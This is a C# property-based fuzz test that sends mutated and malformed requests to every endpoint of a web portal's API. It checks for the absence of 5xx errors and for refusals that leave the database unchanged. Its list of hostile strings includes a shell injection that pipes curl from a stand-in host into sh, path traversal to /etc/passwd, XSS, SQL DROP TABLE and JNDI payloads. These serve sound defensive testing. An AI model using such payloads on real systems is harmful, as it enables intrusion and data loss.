using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using FsCheck;
using FsCheck.Fluent;
using Portal.Tests.Infrastructure;
using Xunit.Abstractions;

namespace Portal.Tests.Web.Api;

/// <summary>
/// Property: whatever a client sends to any endpoint of the OpenAPI document (random and mutated JSON bodies,
/// hostile strings, wrong types, broken encodings, odd headers, random and malformed ids), the portal never
/// answers 5xx, and a refusal (4xx) changes nothing in the database. Endpoints are listed from the served
/// document, so an endpoint added later is fuzzed too. Cases come from FsCheck generators with a printed seed;
/// set PORTAL_FUZZ_SEED to replay a run and PORTAL_FUZZ_CASES to change its length.
/// </summary>
public sealed class ContractFuzzTests(PortalFactory portal, ITestOutputHelper output) : IClassFixture<PortalFactory>
{
    private const int DefaultCases = 1_000;
    private const string Sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

    /// <summary>One request: which endpoint, how its ids are filled, the body bytes, and the headers.</summary>
    public sealed record FuzzCase(string Method, string Template, int IdChoice, string? RawId, byte[]? Body, string ContentType, int Auth, string? IdempotencyKey, string Mutation)
    {
        public override string ToString() =>
            $"{Method} {Template} [id {IdChoice}{(RawId is null ? "" : $" '{RawId}'")}, auth {Auth}, {ContentType}, key {(IdempotencyKey is null ? "-" : $"'{IdempotencyKey}'")}, {Mutation}] {(Body is null ? "(no body)" : Encoding.UTF8.GetString(Body[..Math.Min(Body.Length, 300)]))}";
    }

    [Fact]
    public async Task No_endpoint_answers_5xx_and_no_refusal_changes_anything()
    {
        var world = await WorldAsync();
        var endpoints = await EndpointsAsync();
        Assert.True(endpoints.Count >= 9, "the OpenAPI document lists too few endpoints: " + string.Join(", ", endpoints));
        var seed = ulong.TryParse(Environment.GetEnvironmentVariable("PORTAL_FUZZ_SEED"), CultureInfo.InvariantCulture, out var s) ? s : (ulong)DateTime.UtcNow.Ticks;
        var count = int.TryParse(Environment.GetEnvironmentVariable("PORTAL_FUZZ_CASES"), CultureInfo.InvariantCulture, out var n) ? n : DefaultCases;
        output.WriteLine($"seed {seed}, {count} cases over {endpoints.Count} endpoints");

        var cases = Gen.Sample(CaseGen(endpoints, world), count, new Rnd(seed), 30);
        Assert.Equal(count, cases.Length);
        var failures = new List<string>();
        var statuses = new SortedDictionary<int, int>();
        var started = DateTime.UtcNow;
        var before = await FingerprintAsync();
        foreach (var c in cases)
        {
            using var request = Build(c, world);
            using var client = c.Auth == 0 ? portal.CreateApiClient() : portal.CreateApiClient(c.Auth switch { 1 => null, 2 => "not-a-token", _ => "Bearer " + new string('x', 5_000) });
            HttpResponseMessage response;
            try
            {
                response = await client.SendAsync(request);
            }
            catch (InvalidOperationException) when (request.RequestUri!.OriginalString.Contains("%00", StringComparison.Ordinal))
            {
                // The in-process test client cannot carry a NUL in the path (Kestrel answers such a request line 400 itself).
                statuses[0] = statuses.GetValueOrDefault(0) + 1;
                continue;
            }

            var status = (int)response.StatusCode;
            statuses[status] = statuses.GetValueOrDefault(status) + 1;
            var body = await response.Content.ReadAsStringAsync();
            if (status < 400)
            {
                before = await FingerprintAsync();
            }
            else if (status >= 500)
            {
                failures.Add($"{status} for {c}: {body[..Math.Min(body.Length, 300)]}");
            }
            else if (status >= 400 && await FingerprintAsync() is var after && after != before)
            {
                failures.Add($"{status} changed the database ({before} → {after}) for {c}");
            }
            else if (status == 400 && response.Content.Headers.ContentType?.MediaType != "application/problem+json")
            {
                failures.Add($"400 without a problem document for {c}");
            }
        }

        output.WriteLine($"{count} cases in {(DateTime.UtcNow - started).TotalSeconds:0.0} s; statuses: {string.Join(", ", statuses.Select(p => $"{p.Key}×{p.Value}"))}");
        Assert.True(failures.Count == 0, $"seed {seed}: {failures.Count} of {count} cases failed:\n" + string.Join("\n", failures.Take(20)));
        Assert.True(statuses.Keys.Any(k => k is >= 200 and < 300), "no case was accepted: the generators never reach the handlers");
        Assert.True(statuses.GetValueOrDefault(400) > count / 6, "too few cases reached validation");
    }

    /// <summary>The incident, releases, a snapshot, a user and a validator key the cases aim at.</summary>
    public sealed record World(ApiScenario Scenario, Guid Draft, Guid Published, Guid Snapshot, Guid User);

    private async Task<World> WorldAsync()
    {
        var scenario = await ApiScenario.CreateAsync(portal, count: 6);
        var published = await scenario.PublishReleaseAsync();
        var draft = await Api.OkAsync(await scenario.Admin.PostAsync(Api.Path($"{scenario.Base}/releases"), Api.Json(ApiScenario.Release("v0.1.9"))), HttpStatusCode.Created);
        var snapshot = await Api.OkAsync(await scenario.Admin.PostAsync(Api.Path($"{scenario.Base}/snapshots"),
            Api.Json(new { height = 1724748, blockHash = "0xabc", sha256 = Sha, sizeBytes = 1024, fileName = "fuzz.tar" })), HttpStatusCode.Created);
        var user = await TestUsers.CreateAsync(portal, ["observer"]);
        return new World(scenario, draft.GetProperty("id").GetGuid(), published, snapshot.GetProperty("id").GetGuid(), user.Id);
    }

    private async Task<IReadOnlyList<(string Method, string Template)>> EndpointsAsync()
    {
        using var document = JsonDocument.Parse(await portal.CreateClient().GetStringAsync(Api.Path("/openapi/v1.json")));
        return [.. document.RootElement.GetProperty("paths").EnumerateObject()
            .Where(p => p.Name.StartsWith("/api/v1/", StringComparison.Ordinal))
            .SelectMany(p => p.Value.EnumerateObject().Select(o => (o.Name.ToUpperInvariant(), p.Name)))];
    }

    /// <summary>Everything a refusal must leave as it was (security events are excluded: refusals may be logged).</summary>
    private async Task<string> FingerprintAsync() =>
        (await portal.Database.ScalarAsync<string>("""
            SELECT concat_ws('/',
                (SELECT count(*) FROM users), (SELECT count(*) FROM user_roles), (SELECT count(*) FROM operator_bindings),
                (SELECT count(*) FROM api_tokens), (SELECT count(*) FROM networks), (SELECT count(*) FROM validators),
                (SELECT count(*) FROM incidents), (SELECT coalesce(sum(revision), 0) FROM incidents),
                (SELECT string_agg(status, ',' ORDER BY id) FROM incidents),
                (SELECT count(*) FROM incident_validators), (SELECT md5(coalesce(string_agg(state || coalesce(version, '') || coalesce(note, ''), ',' ORDER BY incident_id, validator_id), '')) FROM incident_validators),
                (SELECT count(*) FROM timeline_events), (SELECT count(*) FROM releases), (SELECT string_agg(status || version, ',' ORDER BY id) FROM releases),
                (SELECT count(*) FROM snapshots), (SELECT string_agg(status, ',' ORDER BY id) FROM snapshots), (SELECT count(*) FROM idempotency_records))
            """))!;

    private static HttpRequestMessage Build(FuzzCase c, World world)
    {
        var path = FillPath(c, world);
        var request = new HttpRequestMessage(new HttpMethod(c.Method), new Uri(path, UriKind.Relative));
        if (c.Body is not null)
        {
            var content = new ByteArrayContent(c.Body);
            if (MediaTypeHeaderValue.TryParse(c.ContentType, out var type))
            {
                content.Headers.ContentType = type;
            }

            request.Content = content;
        }

        if (c.IdempotencyKey is not null)
        {
            request.Headers.TryAddWithoutValidation("Idempotency-Key", c.IdempotencyKey);
        }

        return request;
    }

    private static string FillPath(FuzzCase c, World world)
    {
        var s = world.Scenario;
        var id = c.RawId ?? (c.Template switch
        {
            _ when c.IdChoice == 0 => Guid.NewGuid().ToString(),
            var t when t.StartsWith("/api/v1/incidents/", StringComparison.Ordinal) => s.IncidentId.ToString(),
            var t when t.StartsWith("/api/v1/releases/", StringComparison.Ordinal) => (c.IdChoice % 2 == 0 ? world.Draft : world.Published).ToString(),
            var t when t.StartsWith("/api/v1/snapshots/", StringComparison.Ordinal) => world.Snapshot.ToString(),
            var t when t.StartsWith("/api/v1/users/", StringComparison.Ordinal) => world.User.ToString(),
            _ => Guid.NewGuid().ToString(),
        });
        var key = c.RawId is null ? s.Keys[c.IdChoice % s.Keys.Count] : c.RawId;
        return c.Template
            .Replace("{id}", Uri.EscapeDataString(id), StringComparison.Ordinal)
            .Replace("{key}", Uri.EscapeDataString(key), StringComparison.Ordinal);
    }

    // ---- Generators -------------------------------------------------------------------------------------

    /// <summary>Strings a hostile or careless client sends.</summary>
    private static readonly Gen<string> Hostile = Gen.OneOf(
        Gen.Elements(
            "", " ", "\t", "\n", "\u0000", "a\u0000b", "\u0001", "\u001B[31m", "\u007F", "\u0085", "\u009B",
            "\u200B", "\u200B\u200C\u200D", "\uFEFF", "\u202E", "\u2066\u2069", "\u061C", " \u200F ",
            "ready", "ready ", " ready", "Ready", "READY", "acknowledged, downloading", "acknowledged,downloading", "1", "-1", "0",
            "stake", "count", "stake,count", "Stake", "quorumReached", "closed", "resumed", "fixing, closed",
            "..", ".", "../../etc/passwd", "/etc/passwd", "snapshots/x/..", "snapshots\\..\\x", "C:\\x", "%00", "%2e%2e",
            " 5 ", "5\t", "\t5", "5 000", "1e18", "-5", "+5", "0x10", "٥", new string('9', 39), new string('9', 38),
            "x'; curl evil.example|sh; echo '", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x}", "'; DROP TABLE users; --",
            "🔥", "e\u0301", "👩‍🚒", "not-an-email", "a@b", "ops@example.org", "Asia/Taipei", "Mars/Olympus", "UTC",
            "https://example.org/a.tar.gz", "javascript:alert(1)", "ftp://x", Sha, Sha.ToUpperInvariant(), Sha[..63], "v0.1.8-beta-hotfix",
            "admin", "observer", "operator", "coredev", "commander", "root"),
        Gen.Choose(1, 3).Select(k => new string('A', k * 3_000)),
        Gen.Elements("🔥", "e\u0301", "a", "\u200B").SelectMany(p => Gen.Choose(1, 1_200).Select(k => string.Concat(Enumerable.Repeat(p, k)))),
        Gen.ArrayOf(Gen.Choose(0, 0xFFFF).Select(i => (char)i), 12).Select(cs => new string(cs)));

    /// <summary>Any JSON value: scalars of every type, hostile strings, arrays and objects.</summary>
    private static Gen<JsonNode?> AnyValue(int depth) => depth <= 0
        ? Scalar
        : Gen.Frequency(
            (6, Scalar),
            (1, Gen.Choose(0, 3).SelectMany(k => Gen.ArrayOf(AnyValue(depth - 1), k)).Select(items => (JsonNode?)new JsonArray([.. items.Select(Clone)]))),
            (1, Gen.Choose(0, 3).SelectMany(k => Gen.ArrayOf(Gen.Zip(Gen.Elements("state", "name", "key", "stake", "version", "id", "x", "__proto__", ""), AnyValue(depth - 1)), k))
                .Select(pairs => (JsonNode?)Object(pairs))));

    private static readonly Gen<JsonNode?> Scalar = Gen.OneOf(
        Gen.Constant<JsonNode?>(null),
        Gen.Elements(true, false).Select(b => (JsonNode?)JsonValue.Create(b)),
        Gen.Elements(0L, -1L, 1L, long.MaxValue, long.MinValue, 1_724_747L, 9_200_000_000_000_000_000L).Select(v => (JsonNode?)JsonValue.Create(v)),
        Gen.Elements(0.5, 1e300, -0.0).Select(v => (JsonNode?)JsonValue.Create(v)),
        Hostile.Select(v => (JsonNode?)JsonValue.Create(v)));

    private static JsonObject Object(IEnumerable<(string Key, JsonNode? Value)> pairs)
    {
        var o = new JsonObject();
        foreach (var (key, value) in pairs)
        {
            o[key] = Clone(value);
        }

        return o;
    }

    private static JsonNode? Clone(JsonNode? node) => node?.DeepClone();

    /// <summary>A valid body for each contract endpoint, so that mutations land one step from acceptance.</summary>
    private static JsonObject? Seed(string method, string template, World world) => (method, template) switch
    {
        ("POST", "/api/v1/users") => new JsonObject { ["userName"] = "fuzz-user", ["email"] = "fuzz@example.org", ["roles"] = new JsonArray("operator"), ["validators"] = new JsonArray(new JsonObject { ["networkId"] = world.Scenario.NetworkId.ToString(), ["key"] = world.Scenario.Keys[0] }) },
        ("POST", "/api/v1/networks") => new JsonObject { ["name"] = "Fuzz", ["chainId"] = "fuzz-1", ["quorum"] = new JsonObject { ["numerator"] = 2, ["denominator"] = 3, ["strict"] = true, ["weighting"] = "stake" } },
        ("POST", "/api/v1/incidents") => new JsonObject { ["networkId"] = world.Scenario.NetworkId.ToString(), ["title"] = "Halt", ["haltHeight"] = 1724747, ["summary"] = "Consensus failure." },
        ("PUT", "/api/v1/incidents/{id}/validator-set") => new JsonObject
        {
            ["height"] = 1724747,
            ["validators"] = new JsonArray([.. world.Scenario.Keys.Select((k, i) => (JsonNode)new JsonObject { ["key"] = k, ["name"] = $"Validator {i}", ["stake"] = "10", ["timeZone"] = "Asia/Taipei", ["contact"] = "ops@example.org" })]),
        },
        ("POST", "/api/v1/incidents/{id}/status") => new JsonObject { ["status"] = "fixing", ["reason"] = "Fuzzing the move endpoint." },
        ("POST", "/api/v1/incidents/{id}/validators/{key}/status") => new JsonObject { ["state"] = "acknowledged", ["version"] = "v0.1.8-beta-hotfix", ["note"] = "on it" },
        ("POST", "/api/v1/incidents/{id}/releases") or ("PUT", "/api/v1/releases/{id}") => new JsonObject
        {
            ["version"] = "v0.2.0",
            ["notes"] = "Upgrade.",
            ["artifacts"] = new JsonArray(new JsonObject { ["platform"] = "linux-amd64", ["url"] = "https://example.org/travis.tar.gz", ["sha256"] = Sha, ["sizeBytes"] = 1000 }),
        },
        ("POST", "/api/v1/releases/{id}/withdraw") or ("POST", "/api/v1/snapshots/{id}/revoke") => new JsonObject { ["reason"] = "Found a bug in it." },
        ("POST", "/api/v1/incidents/{id}/snapshots") => new JsonObject { ["height"] = 1724748, ["blockHash"] = "0xabc", ["sha256"] = Sha, ["sizeBytes"] = 1024, ["fileName"] = "s.tar", ["notes"] = "n" },
        ("POST", "/api/v1/snapshots/{id}/upload/parts") => new JsonObject { ["parts"] = new JsonArray(1) },
        (_, _) when method is "POST" or "PUT" or "PATCH" => new JsonObject(),
        _ => null,
    };

    /// <summary>One mutation of the seed: a field replaced, removed or added, a string spoiled, or the whole body replaced.</summary>
    private static Gen<(JsonNode? Body, string Mutation)> Mutate(JsonNode? seed)
    {
        var paths = seed is null ? [] : Leaves(seed, "").ToList();
        var gens = new List<(int, Gen<(JsonNode?, string)>)>
        {
            (1, Gen.Constant<(JsonNode?, string)>((Clone(seed), "seed"))),
            (2, AnyValue(2).Select(v => (v, "random body"))),
        };
        if (paths.Count > 0)
        {
            gens.Add((6, Gen.Zip(Gen.Elements(paths.ToArray()), AnyValue(1)).Select(p => ((JsonNode?)Set(seed!, p.Item1, p.Item2), $"{p.Item1} = random"))));
            gens.Add((6, Gen.Zip(Gen.Elements(paths.ToArray()), Hostile).Select(p => ((JsonNode?)Set(seed!, p.Item1, JsonValue.Create(p.Item2)), $"{p.Item1} = hostile"))));
            gens.Add((3, Gen.Zip(Gen.Zip(Gen.Elements(paths.ToArray()), Hostile), Gen.Elements(true, false)).Select(p => ((JsonNode?)Spoil(seed!, p.Item1.Item1, p.Item1.Item2, p.Item2), $"{p.Item1.Item1} spoiled"))));
            gens.Add((2, Gen.Elements(paths.ToArray()).Select(p => ((JsonNode?)Set(seed!, p, null, remove: true), $"{p} removed"))));
        }

        if (seed is JsonObject)
        {
            gens.Add((1, Gen.Zip(Gen.Elements("unknown", "id", "revision", "status", "Roles", "STATE"), AnyValue(1)).Select(p => ((JsonNode?)Set(seed, p.Item1, p.Item2), $"{p.Item1} added"))));
        }

        return Gen.Frequency([.. gens]);
    }

    private static IEnumerable<string> Leaves(JsonNode node, string path) => node switch
    {
        JsonObject o => o.SelectMany(p => p.Value is JsonObject or JsonArray ? Leaves(p.Value, Join(path, p.Key)).Prepend(Join(path, p.Key)) : [Join(path, p.Key)]),
        JsonArray a => a.SelectMany((item, i) => item is null ? [$"{path}[{i}]"] : Leaves(item, $"{path}[{i}]").Prepend($"{path}[{i}]")),
        _ => [],
    };

    private static string Join(string path, string key) => path.Length == 0 ? key : $"{path}.{key}";

    /// <summary>A copy of <paramref name="seed"/> with the value at <paramref name="path"/> replaced (or removed).</summary>
    private static JsonNode Set(JsonNode seed, string path, JsonNode? value, bool remove = false)
    {
        var copy = seed.DeepClone();
        var steps = path.Replace("[", ".[", StringComparison.Ordinal).Split('.', StringSplitOptions.RemoveEmptyEntries);
        var node = copy;
        for (var i = 0; i < steps.Length; i++)
        {
            var last = i == steps.Length - 1;
            if (steps[i].StartsWith('['))
            {
                var index = int.Parse(steps[i][1..^1], CultureInfo.InvariantCulture);
                if (node is not JsonArray array || index >= array.Count)
                {
                    return copy;
                }

                if (last)
                {
                    if (remove)
                    {
                        array.RemoveAt(index);
                    }
                    else
                    {
                        array[index] = Clone(value);
                    }

                    return copy;
                }

                node = array[index]!;
            }
            else
            {
                if (node is not JsonObject obj)
                {
                    return copy;
                }

                if (last)
                {
                    if (remove)
                    {
                        obj.Remove(steps[i]);
                    }
                    else
                    {
                        obj[steps[i]] = Clone(value);
                    }

                    return copy;
                }

                if (obj[steps[i]] is not { } child)
                {
                    return copy;
                }

                node = child;
            }
        }

        return copy;
    }

    /// <summary>Inserts a hostile string into the string at <paramref name="path"/> (before or after it).</summary>
    private static JsonNode Spoil(JsonNode seed, string path, string hostile, bool after)
    {
        var current = Find(seed, path);
        return current is JsonValue v && v.TryGetValue<string>(out var text)
            ? Set(seed, path, JsonValue.Create(after ? text + hostile : hostile + text))
            : Set(seed, path, JsonValue.Create(hostile));
    }

    private static JsonNode? Find(JsonNode seed, string path)
    {
        JsonNode? node = seed;
        foreach (var step in path.Replace("[", ".[", StringComparison.Ordinal).Split('.', StringSplitOptions.RemoveEmptyEntries))
        {
            node = step.StartsWith('[')
                ? node is JsonArray a && int.Parse(step[1..^1], CultureInfo.InvariantCulture) is var i && i < a.Count ? a[i] : null
                : node is JsonObject o ? o[step] : null;
        }

        return node;
    }

    /// <summary>The body as bytes: usually the JSON, sometimes broken JSON, invalid UTF-8, a duplicated key or nothing.</summary>
    private static Gen<(byte[]? Bytes, string Mutation)> Encode(JsonNode? body, string mutation)
    {
        var json = body?.ToJsonString() ?? "null";
        var bytes = Encoding.UTF8.GetBytes(json);
        return Gen.Frequency(
            (16, Gen.Constant<(byte[]?, string)>((bytes, mutation))),
            (1, Gen.Choose(0, Math.Max(0, bytes.Length - 1)).Select(cut => ((byte[]?)bytes[..cut], mutation + ", truncated"))),
            (1, Gen.Constant<(byte[]?, string)>(([.. bytes.Take(bytes.Length / 2), 0xC3, 0x28, 0xFF, .. bytes.Skip(bytes.Length / 2)], mutation + ", invalid UTF-8"))),
            (1, Gen.Constant<(byte[]?, string)>((Encoding.UTF8.GetBytes(json.StartsWith('{') && json.Length > 2 ? json[..^1] + ",\"state\":1,\"state\":\"ready\"}" : json), mutation + ", duplicate key"))),
            (1, Gen.Constant<(byte[]?, string)>((null, mutation + ", no body"))),
            (1, Gen.Constant<(byte[]?, string)>((Encoding.UTF8.GetBytes("\"lone \\ud83d surrogate\""), "lone surrogate escape"))),
            (1, Gen.Constant<(byte[]?, string)>((Encoding.UTF8.GetBytes(json.Replace("\"acknowledged\"", "\"\\u0000\"", StringComparison.Ordinal).Replace("\"Fuzz\"", "\"\\ud800\"", StringComparison.Ordinal)), mutation + ", escapes"))));
    }

    private static Gen<FuzzCase> CaseGen(IReadOnlyList<(string Method, string Template)> endpoints, World world) =>
        from endpoint in Gen.Elements(endpoints.ToArray())
        from idChoice in Gen.Frequency((1, Gen.Constant(0)), (9, Gen.Choose(1, 12)))
        from rawId in Gen.Frequency((12, Gen.Constant<string?>(null)), (1, Hostile.Select(h => (string?)h)))
        from mutated in Mutate(Seed(endpoint.Method, endpoint.Template, world))
        from encoded in Encode(mutated.Body, mutated.Mutation)
        from contentType in Gen.Frequency(
            (12, Gen.Constant("application/json")),
            (1, Gen.Elements("text/plain", "application/json; charset=latin1", "application/x-www-form-urlencoded", "application/problem+json", "multipart/form-data; boundary=x", "")))
        from auth in Gen.Frequency((14, Gen.Constant(0)), (1, Gen.Choose(1, 3)))
        from key in Gen.Frequency((6, Gen.Constant<string?>(null)), (2, Gen.Choose(0, 99_999).Select(k => (string?)$"fuzz-{k}")), (1, Gen.Elements<string?>("", new string('k', 300), " ")))
        select new FuzzCase(endpoint.Method, endpoint.Template, idChoice, rawId, encoded.Bytes, contentType, auth, key, encoded.Mutation);
}
